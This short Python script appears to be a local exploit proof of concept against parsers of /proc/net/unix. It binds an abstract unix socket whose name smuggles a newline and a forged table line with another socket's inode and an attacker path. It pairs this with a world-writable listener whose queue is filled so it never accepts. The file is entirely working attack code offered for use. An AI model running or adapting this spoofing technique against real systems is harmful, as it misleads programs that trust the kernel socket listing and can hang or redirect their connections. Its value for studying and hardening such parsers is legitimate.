"""Binds an abstract unix socket whose name contains a line of /proc/net/unix: a listener with the inode of another socket, at a path of the
attacker that never accepts.

usage: forged_line.py INODE PATH
"""
import os
import socket
import sys
import time

inode, path = sys.argv[1], sys.argv[2]
listener = socket.socket(socket.AF_UNIX)
listener.bind(path)
listener.listen(0)
os.chmod(path, 0o777)
full = []
for _ in range(2):
    client = socket.socket(socket.AF_UNIX)
    client.setblocking(False)
    try:
        client.connect(path)
    except BlockingIOError:
        pass
    full.append(client)
forged = socket.socket(socket.AF_UNIX)
forged.bind(f"\0x\n0: 2 0 10000 0001 01 {inode} {path}\n".encode())
time.sleep(3600)
